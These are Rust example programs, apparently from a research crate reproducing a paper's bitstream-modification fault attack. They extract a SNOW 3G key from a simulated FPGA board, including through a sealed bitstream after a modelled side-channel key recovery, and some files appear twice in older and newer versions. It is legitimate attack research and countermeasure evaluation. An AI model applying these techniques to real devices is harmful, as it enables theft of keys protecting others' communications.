//! The Section VI attack against a *flaky* board: transient
//! configuration failures, simulated timeouts, truncated reads and
//! per-bit keystream glitches, survived with retries, exponential
//! backoff and per-bit majority voting.
//!
//! ```text
//! cargo run --release --example noisy_attack
//! ```
//!
//! Everything is seeded: the same seed reproduces the same faults,
//! the same retries and the same physical query count.

// These exercise (or ride on) the pre-0.7 free-form `Attack`
// constructors, kept working behind deprecation warnings; the
// replacement surface is `bitmod::fleet::SessionSpec`.
#![allow(deprecated)]

use bitmod::resilient::ResilienceConfig;
use bitmod::{Attack, AttackError};
use fpga_sim::{FaultProfile, ImplementOptions, Snow3gBoard, UnreliableBoard};
use netlist::snow3g_circuit::Snow3gCircuitConfig;
use snow3g::vectors::{TEST_SET_1_IV, TEST_SET_1_KEY};

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let seed = 7u64;

    println!("== Building the victim ==");
    let ideal = Snow3gBoard::build(
        Snow3gCircuitConfig::unprotected(TEST_SET_1_KEY, TEST_SET_1_IV),
        &ImplementOptions::default(),
    )?;

    println!("\n== Wrapping it in a fault profile (seed {seed}) ==");
    // The "flaky" preset: 10% transient load failures, 2% timeouts,
    // 2% truncated reads, 1% per-bit keystream glitches.
    let profile = FaultProfile::flaky(seed);
    println!("{profile:?}");
    let board = UnreliableBoard::new(ideal, profile);
    let golden = board.extract_bitstream();

    println!("\n== Running the attack through the resilience layer ==");
    // 5-ballot per-bit majority voting, 8 retry attempts with seeded
    // exponential backoff, and a hard physical-attempt budget. The
    // jitter seed is decorrelated from the fault seed.
    let config = ResilienceConfig::noisy(seed ^ 0x5EED).with_budget(8_000);
    let outcome = Attack::with_resilience(&board, golden, bitstream::FRAME_BYTES, config)?.run();

    let report = match outcome {
        Ok(report) => report,
        // A budget cut mid-run is a structured partial result, not a
        // panic: the checkpoint says which phase stopped and what was
        // already verified.
        Err(AttackError::Exhausted { checkpoint, source }) => {
            println!("budget exhausted: {source}");
            println!("partial result: {checkpoint}");
            return Ok(());
        }
        Err(e) => return Err(e.into()),
    };

    println!("recovered key: 0x{}", report.recovered.key);
    println!("recovered IV : 0x{}", report.recovered.iv);
    assert_eq!(report.recovered.key, TEST_SET_1_KEY);

    println!("\n== What the flaky board threw at us ==");
    let faults = board.fault_stats();
    println!("physical loads attempted : {}", faults.loads_attempted);
    println!("transient load failures  : {}", faults.transient_failures);
    println!("simulated timeouts       : {}", faults.timeouts);
    println!("truncated reads          : {}", faults.truncated_reads);
    println!("keystream bits flipped   : {}", faults.bits_flipped);

    println!("\n== What surviving it cost ==");
    let r = &report.resilience;
    println!("logical oracle queries   : {}", r.queries);
    println!("physical attempts        : {}", r.attempts);
    println!("majority-vote ballots    : {}", r.votes_cast);
    println!("transient errors retried : {}", r.transient_errors);
    println!("virtual backoff          : {} ms", r.backoff_ms);
    Ok(())
}
