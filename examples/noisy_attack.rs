//! The Section VI attack against a *flaky* board: transient
//! configuration failures, simulated timeouts, truncated reads and
//! per-bit keystream glitches, survived with retries, exponential
//! backoff and per-bit majority voting.
//!
//! ```text
//! cargo run --release --example noisy_attack
//! ```
//!
//! Everything is seeded: the same seed reproduces the same faults,
//! the same retries and the same physical query count.

use bitmod::campaign::CancelToken;
use bitmod::fleet::{ResumePolicy, SessionIo, SessionOutcome, SessionSpec};
use bitmod::Telemetry;
use fpga_sim::{ImplementOptions, Snow3gBoard, UnreliableBoard};
use netlist::snow3g_circuit::Snow3gCircuitConfig;
use snow3g::vectors::{TEST_SET_1_IV, TEST_SET_1_KEY};

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let seed = 7u64;

    println!("== Describing the session ==");
    // The spec is the whole experiment: the "flaky" fault preset (10%
    // transient load failures, 2% timeouts, 2% truncated reads, 1%
    // per-bit keystream glitches), 5-ballot per-bit majority voting,
    // seeded exponential backoff (jitter stream decorrelated from the
    // fault stream), and a hard physical-attempt budget.
    let spec = SessionSpec::builder().noisy(true).seed(seed).budget(8_000).build()?;

    println!("\n== Building the victim and wrapping it in the fault profile ==");
    let profile = spec.fault_profile();
    println!("{profile:?}");
    let ideal = Snow3gBoard::build(
        Snow3gCircuitConfig::unprotected(TEST_SET_1_KEY, TEST_SET_1_IV),
        &ImplementOptions::default(),
    )?;
    let board = UnreliableBoard::new(ideal, profile);
    let golden = board.extract_bitstream();

    println!("\n== Running the attack through the resilience layer ==");
    let io = SessionIo {
        journal: None,
        resume: ResumePolicy::Never,
        telemetry: Telemetry::off(),
        cancel: CancelToken::new(),
        expected_key: Some(TEST_SET_1_KEY),
    };
    let report = spec.run_harnessed(&board, golden, &io)?;
    let attack = match report.outcome {
        SessionOutcome::Recovered(_) => report.attack.expect("recovered sessions carry a report"),
        // A budget cut mid-run is a structured partial result, not a
        // panic: the summary says which phase stopped and what was
        // already verified.
        SessionOutcome::Exhausted { summary, .. } => {
            println!("budget exhausted; partial result: {summary}");
            return Ok(());
        }
        other => return Err(format!("session did not recover: {other}").into()),
    };

    println!("recovered key: 0x{}", attack.recovered.key);
    println!("recovered IV : 0x{}", attack.recovered.iv);
    assert_eq!(attack.recovered.key, TEST_SET_1_KEY);

    println!("\n== What the flaky board threw at us ==");
    let faults = board.fault_stats();
    println!("physical loads attempted : {}", faults.loads_attempted);
    println!("transient load failures  : {}", faults.transient_failures);
    println!("simulated timeouts       : {}", faults.timeouts);
    println!("truncated reads          : {}", faults.truncated_reads);
    println!("keystream bits flipped   : {}", faults.bits_flipped);

    println!("\n== What surviving it cost ==");
    let r = &attack.resilience;
    println!("logical oracle queries   : {}", r.queries);
    println!("physical attempts        : {}", r.attempts);
    println!("majority-vote ballots    : {}", r.votes_cast);
    println!("transient errors retried : {}", r.transient_errors);
    println!("virtual backoff          : {} ms", r.backoff_ms);
    Ok(())
}
