//! Quickstart: build a SNOW 3G victim board, run the complete
//! bitstream-modification attack, and print the recovered key.
//!
//! ```text
//! cargo run --release --example quickstart
//! ```

use bitmod::Attack;
use fpga_sim::{ImplementOptions, Snow3gBoard};
use netlist::snow3g_circuit::Snow3gCircuitConfig;
use snow3g::{Iv, Key};

fn main() -> Result<(), Box<dyn std::error::Error>> {
    // The victim: a SNOW 3G design with the key folded into the
    // bitstream, implemented on the simulated Artix-7-style device.
    let key = Key([0x2BD6459F, 0x82C5B300, 0x952C4910, 0x4881FF48]);
    let iv = Iv([0xEA024714, 0xAD5C4D84, 0xDF1F9B25, 0x1C0BF45F]);
    let board = Snow3gBoard::build(
        Snow3gCircuitConfig::unprotected(key, iv),
        &ImplementOptions::default(),
    )?;
    println!("victim board: {board:?}");

    // The attacker extracts the bitstream (e.g. probing the flash)
    // and runs the attack. Only the bitstream bytes and the keystream
    // oracle are used.
    let golden = board.extract_bitstream();
    println!("extracted bitstream: {} bytes", golden.len());

    let report = Attack::new(&board, golden)?.run()?;

    println!();
    println!("recovered key : {}", report.recovered.key);
    println!("recovered IV  : {}", report.recovered.iv);
    println!("device loads  : {}", report.oracle_loads);
    println!("z-path LUTs   : {}", report.z_luts.len());
    println!("feedback LUTs : {}", report.feedback_luts.len());
    println!("beta edits    : {}", report.beta_edits);

    assert_eq!(report.recovered.key, key);
    println!("\nsuccess: the key was extracted from the bitstream alone.");
    Ok(())
}
