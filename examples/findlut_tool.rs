//! The FINDLUT tool (Section IV-C / Algorithm 1): search a bitstream
//! for every LUT implementing a Boolean function, up to input
//! permutation (its entire P equivalence class).
//!
//! Usage:
//!
//! ```text
//! cargo run --release --example findlut_tool -- [FORMULA]
//! ```
//!
//! `FORMULA` selects a candidate from the built-in catalogue by name
//! (e.g. `f2`, `f8`, `m0`); without arguments the full Table II sweep
//! is printed. The bitstream searched is the victim board's golden
//! bitstream, generated on the fly.

use std::time::Instant;

use bitmod::{Catalogue, Scanner};
use bitstream::FRAME_BYTES;
use fpga_sim::{ImplementOptions, Snow3gBoard};
use netlist::snow3g_circuit::Snow3gCircuitConfig;
use snow3g::vectors::{TEST_SET_1_IV, TEST_SET_1_KEY};

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let board = Snow3gBoard::build(
        Snow3gCircuitConfig::unprotected(TEST_SET_1_KEY, TEST_SET_1_IV),
        &ImplementOptions::default(),
    )?;
    let golden = board.extract_bitstream();
    let range = golden.fdri_data_range().expect("FDRI payload");
    let payload = &golden.as_bytes()[range];
    println!("searching {} payload bytes (d = {} bytes, r = 4, k = 6)", payload.len(), FRAME_BYTES);

    let catalogue = Catalogue::full();
    let wanted: Vec<String> = std::env::args().skip(1).collect();

    let shapes: Vec<_> = if wanted.is_empty() {
        catalogue.shapes.iter().collect()
    } else {
        catalogue.shapes.iter().filter(|s| wanted.iter().any(|w| w == s.name)).collect()
    };
    if shapes.is_empty() {
        eprintln!(
            "unknown candidate name; available: {}",
            catalogue.shapes.iter().map(|s| s.name).collect::<Vec<_>>().join(", ")
        );
        std::process::exit(1);
    }

    // All requested shapes are searched in one pass over the payload.
    let scanner = Scanner::builder()
        .k(6)
        .stride(FRAME_BYTES)
        .candidates(shapes.iter().map(|s| s.truth))
        .build()?;
    let t0 = Instant::now();
    let grouped = scanner.scan_grouped(payload);
    let dt = t0.elapsed();
    println!("one-pass scan of {} candidate(s): {:.1} ms", shapes.len(), dt.as_secs_f64() * 1e3);

    for (shape, hits) in shapes.iter().zip(grouped) {
        println!("\n{} = {}   ({} hits)", shape.name, shape.formula, hits.len());
        for h in hits.iter().take(8) {
            println!(
                "  l = {:>7}  order = {:?}  perm = {}  init = {}",
                h.l, h.order, h.perm, h.init
            );
        }
        if hits.len() > 8 {
            println!("  ... and {} more", hits.len() - 8);
        }
    }
    Ok(())
}
