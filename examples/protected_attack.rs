//! Section VII: attacking the countermeasure-protected implementation
//! and measuring why it fails.
//!
//! ```text
//! cargo run --release --example protected_attack
//! ```

use bitmod::countermeasure::{self, complexity};
use bitmod::{Attack, AttackError};
use fpga_sim::{ImplementOptions, Snow3gBoard};
use netlist::snow3g_circuit::Snow3gCircuitConfig;
use snow3g::vectors::{TEST_SET_1_IV, TEST_SET_1_KEY};
use techmap::{map, DelayModel, MapConfig, TimingReport};

fn main() -> Result<(), Box<dyn std::error::Error>> {
    println!("== Building unprotected and protected boards ==");
    let unprotected = Snow3gBoard::build(
        Snow3gCircuitConfig::unprotected(TEST_SET_1_KEY, TEST_SET_1_IV),
        &ImplementOptions::default(),
    )?;
    let protected = Snow3gBoard::build(
        Snow3gCircuitConfig::protected(TEST_SET_1_KEY, TEST_SET_1_IV),
        &ImplementOptions::default(),
    )?;
    println!("unprotected: {unprotected:?}");
    println!("protected  : {protected:?}");

    println!("\n== Countermeasure cost (Section VII-A) ==");
    let model = DelayModel::default();
    let t_u =
        TimingReport::analyze(&map(&unprotected.circuit.network, &MapConfig::default())?, &model);
    let t_p =
        TimingReport::analyze(&map(&protected.circuit.network, &MapConfig::default())?, &model);
    println!("critical path, unprotected: {:.3} ns (depth {})", t_u.critical_ns, t_u.depth);
    println!("critical path, protected  : {:.3} ns (depth {})", t_p.critical_ns, t_p.depth);
    println!("(paper: 6.313 ns -> 7.514 ns; the MULalpha->s15 path becomes critical)");

    println!("\n== Attempting the Section VI attack on the protected board ==");
    match Attack::new(&protected, protected.extract_bitstream())?.run() {
        Err(AttackError::ZPathIncomplete { bits_found }) => {
            println!(
                "attack ABORTED: only {bits_found}/32 keystream bits covered by verified \
                 composite LUTs — the f2-shaped covers no longer exist."
            );
        }
        Err(other) => println!("attack failed: {other}"),
        Ok(_) => println!("UNEXPECTED: attack succeeded"),
    }

    println!("\n== Section VII-B: the XOR-half candidate scan ==");
    let golden = protected.extract_bitstream();
    let payload_len = golden.fdri_data_range().map(|r| r.len()).unwrap_or(0);
    let report = countermeasure::evaluate(&protected, &golden, Some(0..payload_len / 2))?;
    println!("XOR-half hits, unconstrained search : {}", report.xor_half_hits_unconstrained);
    println!("XOR-half hits, constrained window    : {}", report.xor_half_hits_constrained);
    println!("(paper: 481 unconstrained, 203 constrained)");

    println!("\n== Section VII-C: complexity after pruning the z-path XORs ==");
    println!("keystream-path XOR LUTs pruned: {}", report.z_path_pruned);
    println!("remaining candidates          : {}", report.remaining);
    println!("exhaustive search: C({}, 32) = 2^{:.1}", report.remaining, report.search_bits);
    println!(
        "(paper: C(171, 32) = 2^{:.1} — practically infeasible)",
        complexity::log2_binomial(171, 32)
    );

    println!("\n== Lemma VII-A sizing rule ==");
    let x = complexity::required_decoy_multiple(128.0);
    println!("decoys for 128-bit security: r = 32x with x >= {x:.2} (paper: 4.9)");
    for r_mult in [1u64, 2, 5, 10] {
        println!(
            "  r = 32*{r_mult:>2}: bound 2^{:>6.1}, exact C(...) 2^{:>6.1}",
            complexity::log2_stirling_bound(32, 32 * r_mult),
            complexity::log2_binomial(32 + 32 * r_mult, 32),
        );
    }
    Ok(())
}
