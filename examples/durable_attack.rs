//! A durable attack campaign: the noisy Section VI attack cut down
//! mid-run by a query budget, journalled to disk, and resumed — with
//! the resumed run producing the *bit-identical* trace and totals an
//! uninterrupted run would have.
//!
//! ```text
//! cargo run --release --example durable_attack
//! ```
//!
//! The journal persists, after every completed work item, the
//! checkpoint (verified findings + loop cursors), the resilience
//! layer's RNG/clock/stats and the simulated board's fault state, so
//! nothing about the noisy trace depends on *when* the run was cut.

// These exercise (or ride on) the pre-0.7 free-form `Attack`
// constructors, kept working behind deprecation warnings; the
// replacement surface is `bitmod::fleet::SessionSpec`.
#![allow(deprecated)]

use bitmod::journal::AttackJournal;
use bitmod::resilient::ResilienceConfig;
use bitmod::{Attack, AttackError};
use fpga_sim::{FaultProfile, ImplementOptions, Snow3gBoard, UnreliableBoard};
use netlist::snow3g_circuit::Snow3gCircuitConfig;
use snow3g::vectors::{TEST_SET_1_IV, TEST_SET_1_KEY};

fn flaky_board(seed: u64) -> Result<UnreliableBoard, Box<dyn std::error::Error>> {
    let ideal = Snow3gBoard::build(
        Snow3gCircuitConfig::unprotected(TEST_SET_1_KEY, TEST_SET_1_IV),
        &ImplementOptions::default(),
    )?;
    Ok(UnreliableBoard::new(ideal, FaultProfile::flaky(seed)))
}

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let seed = 7u64;
    let path = std::env::temp_dir().join(format!("durable-attack-{}.journal", std::process::id()));
    let _ = std::fs::remove_file(&path);

    println!("== Leg 1: a journalled run dies at its query budget ==");
    // A fresh board + a 600-attempt budget models a run killed early;
    // a real crash (SIGKILL, power cut) leaves the same journal.
    let board = flaky_board(seed)?;
    let golden = board.extract_bitstream();
    let config = ResilienceConfig::noisy(seed ^ 0x5EED).with_budget(600);
    let outcome = Attack::with_resilience(&board, golden, bitstream::FRAME_BYTES, config)?
        .with_journal(AttackJournal::new(&path))?
        .run();
    match outcome {
        Err(AttackError::Exhausted { checkpoint, source }) => {
            println!("cut down: {source}");
            println!("journalled: {checkpoint}");
        }
        other => return Err(format!("expected a budget cut, got {other:?}").into()),
    }

    println!("\n== Leg 2: a new process resumes from the journal ==");
    // A *new* board object, as a restarted process would build; its
    // fault-model position is restored from the journal so the noisy
    // trace continues exactly where it stopped.
    let board = flaky_board(seed)?;
    let golden = board.extract_bitstream();
    let raised = AttackJournal::new(&path).load()?.config.with_budget(8_000);
    let report = Attack::resume_with(&board, golden, AttackJournal::new(&path), raised)?.run()?;

    println!("recovered key: 0x{}", report.recovered.key);
    assert_eq!(report.recovered.key, TEST_SET_1_KEY);
    println!(
        "totals: {} physical loads, {} logical queries, {} retries, {} virtual ms backoff",
        report.oracle_loads,
        report.resilience.queries,
        report.resilience.transient_errors,
        report.resilience.backoff_ms
    );
    // The accounting matches an uninterrupted seed-7 run exactly —
    // resume replays the identical query trace.
    assert_eq!(report.oracle_loads, 3_133);
    println!("(bit-identical to an uninterrupted run)");

    // The journal removes itself on success.
    assert!(!path.exists(), "journal should be gone after recovery");
    Ok(())
}
