//! A durable attack campaign: the noisy Section VI attack cut down
//! mid-run by a query budget, journalled to disk, and resumed — with
//! the resumed run producing the *bit-identical* trace and totals an
//! uninterrupted run would have.
//!
//! ```text
//! cargo run --release --example durable_attack
//! ```
//!
//! The journal persists, after every completed work item, the
//! checkpoint (verified findings + loop cursors), the resilience
//! layer's RNG/clock/stats and the simulated board's fault state, so
//! nothing about the noisy trace depends on *when* the run was cut.

use bitmod::fleet::{SessionOutcome, SessionSpec};
use snow3g::vectors::TEST_SET_1_KEY;

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let seed = 7u64;
    let path = std::env::temp_dir().join(format!("durable-attack-{}.journal", std::process::id()));
    let _ = std::fs::remove_file(&path);

    println!("== Leg 1: a journalled run dies at its query budget ==");
    // A fresh board + a 600-attempt budget models a run killed early;
    // a real crash (SIGKILL, power cut) leaves the same journal.
    let spec = SessionSpec::builder().noisy(true).seed(seed).budget(600).journal(&path).build()?;
    let report = spec.run_local()?;
    match report.outcome {
        SessionOutcome::Exhausted { summary, .. } => {
            println!("cut down and journalled: {summary}");
        }
        other => return Err(format!("expected a budget cut, got {other}").into()),
    }

    println!("\n== Leg 2: a new process resumes from the journal ==");
    // A *new* session (as a restarted process would start), the same
    // spec with a raised budget and `resume`; the fault-model position
    // is restored from the journal so the noisy trace continues
    // exactly where it stopped.
    let spec = SessionSpec::builder()
        .noisy(true)
        .seed(seed)
        .budget(8_000)
        .journal(&path)
        .resume(true)
        .build()?;
    let report = spec.run_local()?;
    let SessionOutcome::Recovered(_) = report.outcome else {
        return Err(format!("resumed run did not recover: {}", report.outcome).into());
    };
    let attack = report.attack.expect("recovered sessions carry a report");

    println!("recovered key: 0x{}", attack.recovered.key);
    assert_eq!(attack.recovered.key, TEST_SET_1_KEY);
    println!(
        "totals: {} physical loads, {} logical queries, {} retries, {} virtual ms backoff",
        attack.oracle_loads,
        attack.resilience.queries,
        attack.resilience.transient_errors,
        attack.resilience.backoff_ms
    );
    // The accounting matches an uninterrupted seed-7 run exactly —
    // resume replays the identical query trace.
    assert_eq!(attack.oracle_loads, 3_145);
    println!("(bit-identical to an uninterrupted run)");

    // The journal removes itself on success.
    assert!(!path.exists(), "journal should be gone after recovery");
    Ok(())
}
