//! The complete attack of Section VI, narrated phase by phase, with
//! the paper's tables printed alongside the measured values.
//!
//! ```text
//! cargo run --release --example full_attack
//! ```

use bitmod::Attack;
use fpga_sim::{ImplementOptions, Snow3gBoard};
use netlist::snow3g_circuit::Snow3gCircuitConfig;
use snow3g::vectors::{
    PAPER_TABLE_III, PAPER_TABLE_IV, PAPER_TABLE_V, TEST_SET_1_IV, TEST_SET_1_KEY,
};

fn print_table(title: &str, ours: &[u32], paper: &[u32]) {
    println!("\n{title}");
    println!("  t | measured | paper    | match");
    for (i, (a, b)) in ours.iter().zip(paper).enumerate() {
        println!(" {:>2} | {:08x} | {:08x} | {}", i + 1, a, b, if a == b { "yes" } else { "NO" });
    }
}

fn main() -> Result<(), Box<dyn std::error::Error>> {
    println!("== Building the victim (Section VI preamble) ==");
    let board = Snow3gBoard::build(
        Snow3gCircuitConfig::unprotected(TEST_SET_1_KEY, TEST_SET_1_IV),
        &ImplementOptions::default(),
    )?;
    println!("{board:?}");

    println!("\n== Extracting the bitstream (attack model, Section IV-A) ==");
    let golden = board.extract_bitstream();
    println!("bitstream: {} bytes", golden.len());
    let fdri = golden.fdri_data_range().expect("FDRI payload");
    println!("FDRI payload at bytes {}..{} ({} bytes)", fdri.start, fdri.end, fdri.len());

    println!("\n== Running the attack (Sections VI-B .. VI-D) ==");
    let report = Attack::new(&board, golden)?.run()?;

    println!("\nTable II analog: candidate LUT counts in the bitstream");
    println!("  shape | hits");
    for (name, count) in &report.candidate_counts {
        if *count > 0 {
            println!("  {name:>5} | {count}");
        }
    }
    let zeros: Vec<&str> =
        report.candidate_counts.iter().filter(|(_, c)| *c == 0).map(|(n, _)| *n).collect();
    println!("  (zero hits: {})", zeros.join(", "));

    println!("\nVerified keystream-path LUTs (LUT1): {}", report.z_luts.len());
    println!("Feedback-path LUTs (LUT2/LUT3 analog): {}", report.feedback_luts.len());
    let mut by_shape: std::collections::BTreeMap<&str, usize> = Default::default();
    for f in &report.feedback_luts {
        *by_shape.entry(f.shape).or_default() += 1;
    }
    for (shape, n) in by_shape {
        println!("  {shape:>5} x {n}");
    }
    println!("Load-mux halves edited by beta: {}", report.beta_edits);
    println!("Dead candidates pruned: {}", report.dead_candidates);

    print_table(
        "Table III: key-independent keystream (FSM->LFSR stuck 0, LFSR loads 0)",
        &report.key_independent_keystream,
        &PAPER_TABLE_III,
    );
    print_table(
        "Table IV: keystream under the full alpha fault (= LFSR state S^33)",
        &report.alpha_keystream,
        &PAPER_TABLE_IV,
    );
    print_table(
        "Table V: recovered initial LFSR state S^0 = gamma(K, IV)",
        &report.recovered.initial_state,
        &PAPER_TABLE_V,
    );

    println!("\n== Attack footprint ==");
    let golden = board.extract_bitstream();
    let touched = golden.diff(&report.alpha_bitstream);
    let bytes: usize = touched.iter().map(|r| r.len()).sum();
    println!(
        "the final alpha bitstream differs from the golden one in {} ranges, {} bytes \
         (64 LUT rewrites x 8 bytes + the CRC word)",
        touched.len(),
        bytes
    );

    println!("\n== Section VI-D.3: key extraction ==");
    println!("recovered key: 0x{}", report.recovered.key);
    println!("paper's key  : 0x2BD6459F82C5B300952C49104881FF48");
    println!("recovered IV : 0x{}", report.recovered.iv);
    println!("device reconfigurations used: {}", report.oracle_loads);
    assert_eq!(report.recovered.key, TEST_SET_1_KEY);
    Ok(())
}
