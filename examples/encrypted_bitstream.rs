//! The full Fig.-1 pipeline: attacking an *encrypted and
//! authenticated* bitstream.
//!
//! Xilinx 7-series security is MAC-then-encrypt with the
//! authentication key K_A stored inside the encrypted stream. The
//! paper's attack model assumes the encryption key K_E leaks through
//! a side-channel attack ([16]–[18]); after that, authentication
//! provides no protection because K_A is right there in the
//! plaintext. This example executes the whole chain:
//!
//! extract → SCA → seekable open → read K_A → modify (full α fault) →
//! incremental re-MAC → dirty-window re-encrypt → load → key.
//!
//! Each of the ~545 candidate loads goes through the
//! position-seekable [`PatchOracle`]: only the CBC blocks the LUT
//! edit touches are re-encrypted and only the HMAC suffix past the
//! nearest midstate checkpoint is re-absorbed — the container tax is
//! a small constant factor, not O(container) per load
//! (`encrypted-throughput` gates it at ≤1.5× in CI).
//!
//! ```text
//! cargo run --release --example encrypted_bitstream
//! ```

use bitmod::{Attack, EncryptedOracle};
use bitstream::{PatchOracle, ScaOracle};
use fpga_sim::{ImplementOptions, SealedBoard, Snow3gBoard};
use netlist::snow3g_circuit::Snow3gCircuitConfig;
use snow3g::{Iv, Key};

fn main() -> Result<(), Box<dyn std::error::Error>> {
    // The vendor provisions the board: bitstream sealed under an
    // on-chip AES key K_E and an HMAC key K_A, ciphertext in flash.
    let key = Key([0x0F1E2D3C, 0x4B5A6978, 0x8796A5B4, 0xC3D2E1F0]);
    let iv = Iv([0x11111111, 0x22222222, 0x33333333, 0x44444444]);
    let board = Snow3gBoard::build(
        Snow3gCircuitConfig::unprotected(key, iv),
        &ImplementOptions::default(),
    )?;
    let k_enc: [u8; 32] = *b"on-chip AES-256 bitstream key!!!";
    let k_auth: [u8; 32] = *b"vendor's HMAC-SHA-256 key (K_A)!";
    let board = SealedBoard::new(board, k_enc);
    let sealed = board.extract_sealed(&k_auth, [0xA5; 16]);
    println!("flash contents: {} ciphertext bytes", sealed.ciphertext.len());

    // Step 1: the attacker measures power traces of the decryption
    // engine and recovers K_E (Moradi et al.-style SCA, modelled as
    // an oracle that needs enough traces).
    let sca = ScaOracle::new(k_enc, 40_000);
    assert!(sca.extract_key(10_000).is_none(), "too few traces");
    let recovered_ke = sca.extract_key(40_000).expect("enough traces");
    println!("side channel: K_E recovered after 40k traces");

    // Step 2: one full decrypt builds the seekable patch oracle. K_A
    // falls out of the plaintext (Fig. 1) — no guessing required —
    // and the golden bitstream the attack needs comes *out of the
    // container*.
    let patcher = PatchOracle::new(&sealed, &recovered_ke)?;
    println!(
        "container opened; K_A recovered from the stream: {}…",
        patcher.k_auth().iter().take(8).map(|b| format!("{b:02x}")).collect::<String>()
    );
    assert_eq!(patcher.k_auth(), k_auth);
    let golden = patcher.golden().clone();

    // Step 3: run the bitstream-modification attack over ciphertext.
    // Every candidate the attack loads is patch-sealed (dirty-window
    // re-encrypt + incremental re-MAC) and then decrypted + verified
    // by the device model, exactly as a real adversary would
    // re-provision the flash between loads.
    let oracle = EncryptedOracle::new(board.board(), patcher);
    let report = Attack::new(&oracle, golden)?.run()?;
    println!("\nrecovered SNOW 3G key: {}", report.recovered.key);
    assert_eq!(report.recovered.key, key);

    let stats = oracle.patch_stats();
    println!("device loads (each one re-MACed and re-encrypted): {}", report.oracle_loads);
    println!(
        "seekable container work: {} blocks re-encrypted, {} reused from the clean prefix \
         ({}% of the AES work skipped)",
        stats.blocks_reencrypted,
        stats.blocks_reused,
        100 * stats.blocks_reused / (stats.blocks_reencrypted + stats.blocks_reused).max(1),
    );
    println!("\nencryption + authentication did not stop the attack: K_A travels with the data.");
    Ok(())
}
