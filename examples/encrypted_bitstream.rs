//! The full Fig.-1 pipeline: attacking an *encrypted and
//! authenticated* bitstream.
//!
//! Xilinx 7-series security is MAC-then-encrypt with the
//! authentication key K_A stored inside the encrypted stream. The
//! paper's attack model assumes the encryption key K_E leaks through
//! a side-channel attack ([16]–[18]); after that, authentication
//! provides no protection because K_A is right there in the
//! plaintext. This example executes the whole chain:
//!
//! extract → SCA → decrypt → read K_A → modify (full α fault) →
//! re-MAC → re-encrypt → load → collect faulty keystream → key.
//!
//! ```text
//! cargo run --release --example encrypted_bitstream
//! ```

use bitmod::Attack;
use bitstream::secure::{ScaOracle, SecureBitstream};
use fpga_sim::{ImplementOptions, Snow3gBoard};
use netlist::snow3g_circuit::Snow3gCircuitConfig;
use snow3g::{Iv, Key};

fn main() -> Result<(), Box<dyn std::error::Error>> {
    // The vendor provisions the board: bitstream sealed under an
    // on-chip AES key K_E and an HMAC key K_A.
    let key = Key([0x0F1E2D3C, 0x4B5A6978, 0x8796A5B4, 0xC3D2E1F0]);
    let iv = Iv([0x11111111, 0x22222222, 0x33333333, 0x44444444]);
    let board = Snow3gBoard::build(
        Snow3gCircuitConfig::unprotected(key, iv),
        &ImplementOptions::default(),
    )?;
    let k_enc: [u8; 32] = *b"on-chip AES-256 bitstream key!!!";
    let k_auth: [u8; 32] = *b"vendor's HMAC-SHA-256 key (K_A)!";
    let sealed = SecureBitstream::seal(&board.extract_bitstream(), &k_enc, &k_auth, [0xA5; 16]);
    println!("sealed bitstream: {} ciphertext bytes", sealed.ciphertext.len());

    // Step 1: the attacker measures power traces of the decryption
    // engine and recovers K_E (Moradi et al.-style SCA, modelled as
    // an oracle that needs enough traces).
    let sca = ScaOracle::new(k_enc, 40_000);
    assert!(sca.extract_key(10_000).is_none(), "too few traces");
    let recovered_ke = sca.extract_key(40_000).expect("enough traces");
    println!("side channel: K_E recovered after 40k traces");

    // Step 2: decrypt. K_A falls out of the plaintext (Fig. 1).
    let opened = sealed.open(&recovered_ke)?;
    println!(
        "decrypted; K_A recovered from the stream: {}",
        opened.k_auth.iter().take(8).map(|b| format!("{b:02x}")).collect::<String>() + "…"
    );
    assert_eq!(opened.k_auth, k_auth);

    // Step 3: run the bitstream-modification attack on the decrypted
    // stream. Every modified bitstream the attack loads is re-sealed
    // with the recovered keys, exactly as a real adversary would
    // re-provision the flash.
    struct ResealingOracle<'a> {
        board: &'a Snow3gBoard,
        k_enc: [u8; 32],
        k_auth: [u8; 32],
    }
    impl bitmod::KeystreamOracle for ResealingOracle<'_> {
        fn keystream(
            &self,
            bs: &bitstream::Bitstream,
            words: usize,
        ) -> Result<Vec<u32>, bitmod::OracleError> {
            // Re-seal (re-MAC + re-encrypt), write to "flash", and
            // let the device decrypt + verify + configure.
            let sealed = SecureBitstream::seal(bs, &self.k_enc, &self.k_auth, [0x3C; 16]);
            let opened = sealed
                .open(&self.k_enc)
                .map_err(|e| bitmod::OracleError::Rejected(e.to_string()))?;
            self.board
                .generate_keystream(&opened.bitstream, words)
                .map_err(|e| bitmod::OracleError::Rejected(e.to_string()))
        }
    }
    let oracle = ResealingOracle { board: &board, k_enc: recovered_ke, k_auth: opened.k_auth };

    let report = Attack::new(&oracle, opened.bitstream)?.run()?;
    println!("\nrecovered SNOW 3G key: {}", report.recovered.key);
    assert_eq!(report.recovered.key, key);
    println!("device loads (each one re-MACed and re-encrypted): {}", report.oracle_loads);
    println!("\nencryption + authentication did not stop the attack: K_A travels with the data.");
    Ok(())
}
