//! The untargeted BiFI baseline (the paper's reference [23]) run in
//! full against the SNOW 3G board: thousands of single-LUT mutations,
//! zero key recoveries — the quantitative motivation for the paper's
//! targeted attack.
//!
//! ```text
//! cargo run --release --example bifi_baseline [max_trials]
//! ```

use bitmod::bifi::{self, BifiConfig};
use fpga_sim::{ImplementOptions, Snow3gBoard};
use netlist::snow3g_circuit::Snow3gCircuitConfig;
use snow3g::vectors::{TEST_SET_1_IV, TEST_SET_1_KEY};
use std::time::Instant;

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let max_trials = std::env::args().nth(1).and_then(|s| s.parse().ok());
    let board = Snow3gBoard::build(
        Snow3gCircuitConfig::unprotected(TEST_SET_1_KEY, TEST_SET_1_IV),
        &ImplementOptions::default(),
    )?;
    let golden = board.extract_bitstream();
    let positions = {
        let range = golden.fdri_data_range().expect("FDRI payload");
        bifi::candidate_positions(&golden.as_bytes()[range], bitstream::FRAME_BYTES).len()
    };
    println!(
        "BiFI campaign: {} candidate LUT slots x 3 mutation rules{}",
        positions,
        max_trials.map_or(String::new(), |m: usize| format!(" (capped at {m} trials)"))
    );
    let t0 = Instant::now();
    let report = bifi::run(&board, &golden, &BifiConfig { max_trials, ..BifiConfig::default() })?;
    println!(
        "{} trials in {:.1} s: {} changed the keystream, {} dead, {} rejected",
        report.trials,
